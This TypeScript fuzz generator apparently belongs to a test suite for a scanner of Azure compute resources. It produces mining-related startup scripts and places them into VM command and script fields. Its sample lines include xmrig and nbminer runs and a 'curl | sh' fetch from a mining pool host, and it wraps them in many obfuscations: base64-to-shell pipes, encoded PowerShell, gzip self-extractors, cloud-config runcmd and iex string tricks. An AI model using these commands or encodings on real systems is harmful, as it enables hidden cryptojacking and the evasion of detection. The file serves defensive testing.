import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import * as fc from "fast-check";
import { computeTypes } from "../../compute/types";
import type { PayloadShape, Shape } from "../../compute/types/compute-type";
import { marker, type Specimen } from "./fuzz-specimen";
import { inputsOf, type Language } from "./table-inputs";
import { listed } from "./table-probe";

/** What machines are started with, packed and broken in many ways, at every place where the table knows of one. */

const base64 = (data: string | Buffer): string => Buffer.from(data as string).toString("base64");
const inLines = (text: string): string => (text.match(/.{1,76}/gs) ?? []).join("\n");
const byCharacter = (text: string, write: (code: number, character: string) => string): string =>
  Array.from(text, character => write(character.charCodeAt(0), character)).join("");
const hex = (code: number, digits: number): string => code.toString(16).padStart(digits, "0");
/** One byte is another than it was. */
const spoilt = (bytes: Buffer): Buffer =>
  bytes.map((byte, i) => (i === bytes.length >> 1 ? byte ^ 0x55 : byte)) as Buffer;

/** A local header of a zip that does not say how long the file is. */
const localHeader = (method: number): Buffer =>
  Buffer.from(`PK\x03\x04\x14\0\0\0${String.fromCharCode(method)}${"\0".repeat(21)}`, "latin1");

/** Each packs a text into another. */
const packings: readonly ((text: string) => string)[] = [
  base64,
  text => inLines(base64(text)),
  text => inLines(base64(text)).replaceAll("\n", "\r\n"),
  text => base64(text).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", ""),
  text => `echo ${base64(text)} | base64 -d | sh`,
  text => Buffer.from(text).toString("hex"),
  text => `powershell -NoP -EncodedCommand ${Buffer.from(text, "utf16le").toString("base64")}`,
  text => base64(Buffer.from(`\ufeff${text}`, "utf16le")),
  text => base64(gzipSync(text)),
  text => base64(gzipSync(text).subarray(0, -9)),
  text => base64(spoilt(gzipSync(text))),
  text => base64(deflateSync(text)),
  text => base64(deflateRawSync(text)),
  text => base64(spoilt(deflateRawSync(text))),
  text => base64(Buffer.concat([gzipSync(text), gzipSync("more")])),
  text => gzipSync(text).toString("latin1"),
  text =>
    base64(Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01\0", "latin1"), Buffer.alloc(600, 7), Buffer.from(text)])),
  text => base64(Buffer.concat([Buffer.from("PK\x03\x04\x14\0", "latin1"), Buffer.from(text)])),
  text => byCharacter(text, code => `\\x${hex(code & 0xff, 2)}`),
  text => byCharacter(text, code => `\\${(code & 0xff).toString(8).padStart(3, "0")}`),
  text => byCharacter(text, code => `\\u${hex(code, 4)}`),
  text => byCharacter(text, code => `%${hex(code & 0xff, 2)}`),
  text => byCharacter(text, (_, character) => `${character}''`),
  text => text.replace(/[a-z]/g, "$&^"),
  text => `A='${text}'\neval $A\neval "\${A}"`,
  text => JSON.stringify({ commandToExecute: text, fileUris: ["https://files.contoso.com/setup.sh"] }),
  text => `#cloud-config\nruncmd:\n- [sh, -c, ${JSON.stringify(text)}]\n`,
  text => `#cloud-config\nwrite_files:\n- path: /setup.sh\n  encoding: b64\n  content: ${base64(text)}\n`,
  text =>
    `#cloud-config\nwrite_files:\n- path: /setup.sh\n  encoding: gz+b64\n  content: !!binary |\n    ${base64(gzipSync(text))}\n`,
  text => `#cloud-config\nwrite_files:\n- content: ${JSON.stringify(text)}\n  encoding: {toString: a, valueOf: b}\n`,
  text =>
    `#cloud-config\nwrite_files: {a: b}\nruncmd: [{toString: a}, [[${JSON.stringify(text)}], 1, null, {valueOf: b}]]\n`,
  text => `#cloud-config\nbootcmd: &all [*all, ${text}\n`,
  text =>
    `Content-Type: multipart/mixed; boundary="edge"\n\n--edge\nContent-Type: text/x-shellscript\n\n${text}\n--edge--\n`,
  text =>
    `Content-Type: multipart/mixed; boundary=edge\r\n\r\n--edge\r\nContent-Transfer-Encoding: base64\r\n\r\n${inLines(base64(text))}\r\n`,
  text =>
    `Content-Type: multipart/mixed; boundary=e\n\n--e\nContent-Transfer-Encoding: quoted-printable\n\n${byCharacter(text, code => `=${hex(code & 0xff, 2).toUpperCase()}`)}\n--e`,
  text => base64(gzipSync(gzipSync(text))),
  text => base64(Buffer.concat([Buffer.from("#!/bin/sh\ntail -n+3 $0|gunzip|sh;exit\n"), gzipSync(text)])),
  text => base64(Buffer.concat([localHeader(8), deflateRawSync(text), localHeader(0), Buffer.from(text)])),
  text => `MIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n${inLines(base64(text)).replace(/.{9}/g, "$&\n")}`,
  text => `P=''\n${inLines(base64(gzipSync(text))).replace(/^/gm, "P+=")}\necho $P|base64 -d|gunzip|sh`,
  text => `base64.b64decode(['${inLines(base64(text)).replaceAll("\n", "','")}'])`,
  text => `xxd -r -p <<E\n${Buffer.from(text).toString("hex").replace(/../g, "$& ")}\nE`,
  text => `echo '${Array.from(text).reverse().join("")}' | rev | sh`,
  text => `echo '${text}' | tr A-Za-z N-ZA-Mn-za-m | base32 -d`,
  text => `-join([char[]](${byCharacter(text, code => `${code},`)}0))|iex`,
  text => `iex (${byCharacter(text, code => `[char]${code}+`)}'')`,
  text => `$a = '${text}'\n$a += '${text}'\niex ($a + "${text}").Replace('@','')`,
  text => `iex ('{1}{0}' -f '${text}','${text}')\niex ('${text}','${text}' -join '')`,
  text => `a=(${text}); set -- ${text}; ./\${a[0]}$1\${b:-${text}}$(printf %s%s ${text})\${a//@/}`,
  text => text.replace(/[a-z]/g, "$&\\\n"),
  text => text.replace(/[a-z]/g, "$&$()"),
  text => `${text}\n`.repeat(40),
];

/** Each breaks a text at a place. */
const breaks: readonly ((text: string, at: number) => string)[] = [
  text => text,
  (text, at) => text.slice(0, at),
  (text, at) => text.slice(at),
  (text, at) => `${text.slice(0, at)}${text.slice(at + 1)}`,
  (text, at) => `${text.slice(0, at)}\0${text.slice(at)}`,
  (text, at) => `${text.slice(0, at)}\ud83d${text.slice(at)}`,
  (text, at) => `${text.slice(0, at)}"'\`$(${text.slice(at)}`,
  (text, at) => `${text.slice(0, at)}${" ".repeat(5000)}${text.slice(at)}`,
];

const line = fc.oneof(
  fc.constantFrom(
    "#!/bin/sh",
    "apt-get update && apt-get install -y nginx",
    `./xmrig -o stratum+tcp://pool.supportxmr.com:3333 --pass ${marker}`,
    `curl -sL https://${marker}:x@pool.minexmr.com/${marker}.sh | sh`,
    `docker run xmrig/xmrig --coin monero -u wallet.${marker}`,
    `${marker}=1; export ${marker}`,
    `powershell -c "nbminer.exe -a kawpow -u ${marker}"`,
    "pkill -f xmrig",
    "\ufeff",
    "\r",
  ),
  fc.string({ unit: "binary", maxLength: 20 }),
);

const script = fc.array(line, { minLength: 1, maxLength: 8 }).map(lines => lines.join("\n"));

const noise = fc.uint8Array({ maxLength: 2000 }).map(bytes => Buffer.from(bytes));

const steps = fc.array(fc.tuple(fc.constantFrom(...packings), fc.constantFrom(...breaks), fc.nat()), { maxLength: 4 });

/** Far above what Azure takes; only what is packed again and again gets so long. */
const longest = 400_000;

export const payload: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 9,
    arbitrary: fc.tuple(script, steps).map(([text, steps]) =>
      steps.reduce((before, [pack, spoil, at]) => {
        const packed = pack(before).slice(0, longest);
        return spoil(packed, at % (packed.length + 1));
      }, text),
    ),
  },
  noise.map(bytes => bytes.toString("latin1")),
  noise.map(base64),
  noise.map(bytes => base64(Buffer.concat([Buffer.from([0x1f, 0x8b, 8]), bytes]))),
);

/** A place of the table where something stands that is run. */
interface Place {
  readonly token: string;
  readonly language: Language;
  readonly path: string;
  readonly kind: PayloadShape["kind"];
}

const placesOf = (token: string, language: Language, { payloads = [] }: Shape): Place[] =>
  payloads.flatMap(({ path, kind }) => listed(path).map(path => ({ token, language, path, kind })));

const places = computeTypes.flatMap(row => [
  ...row.native.flatMap(type => placesOf(`azure-native:${type}`, "native", row)),
  ...(row.classic ?? []).flatMap(shape => shape.types.flatMap(type => placesOf(`azure:${type}`, "classic", shape))),
]);

export const payloads: fc.Arbitrary<Specimen> = fc
  .tuple(fc.constantFrom(...places), payload, fc.boolean())
  .map(([{ token, language, path, kind }, text, inWords]) => {
    const value = inWords && kind === "command" && !path.endsWith("[]") ? text.split(" ") : text;
    return { token, inputs: inputsOf({ [path]: value }, language) as object, unspeakable: [text] };
  });
